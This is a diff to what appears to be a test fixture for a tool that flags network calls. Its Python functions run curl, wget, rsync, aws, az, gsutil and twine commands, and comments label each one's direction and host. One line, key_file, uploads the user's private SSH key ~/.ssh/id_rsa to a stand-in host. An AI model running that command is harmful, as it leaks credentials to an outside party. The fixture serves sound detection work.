@@ -1,4 +1,5 @@
 import os
+import shlex
 import subprocess
 
 URL = "https://up.example.com/in"
@@ -44,3 +45,34 @@ def pushed():
 
 def key_file():
     os.system("curl -F file=@$HOME/.ssh/id_rsa https://up.example.com/k")  # sends: SECRET -> up.example.com
+
+
+def from_a_bucket(path):
+    subprocess.run(["aws", "s3", "sync", "s3://bucket/x", path])  # fetches: -> bucket
+
+
+def with_an_address_of_its_own(path):
+    subprocess.run(["aws", "s3", "cp", path, "s3://bucket/x", "--endpoint-url", "https://s3.acme.example"])  # sends: -> s3.acme.example
+
+
+def services_that_a_program_is_there_for(path):
+    subprocess.run(["aws", "sns", "publish", "--message", "done"])  # sends: -> amazonaws.com
+    subprocess.run(["az", "storage", "blob", "upload", "--account-name", "acme", "-f", path])  # sends: -> acme.blob.core.windows.net
+    subprocess.run("az storage blob download -c logs".split())  # fetches: -> *.blob.core.windows.net
+    subprocess.run(["gsutil", "ls"])  # fetches: -> storage.googleapis.com
+    os.system("twine upload dist/*")  # sends: -> upload.pypi.org
+
+
+def split(url, path):
+    subprocess.call(shlex.split("wget -q -O %s %s" % (path, url)))  # fetches: -> ?
+    subprocess.call(f"curl -T {path} https://up.example.com/{url}".split())  # sends: FILE -> up.example.com
+
+
+def put_together():
+    command = ["rsync", "-a"]
+    command += ["src/", "me@host.example.com:/srv"]
+    subprocess.check_call(command)  # sends: FILE -> host.example.com
+
+
+def of_many_words():
+    subprocess.run(["curl", "-s", "-S", "-f", "-m", "10", "-A", "x", "-H", "A: b", "-H", "C: d", "-X", "POST", URL])  # sends: -> up.example.com
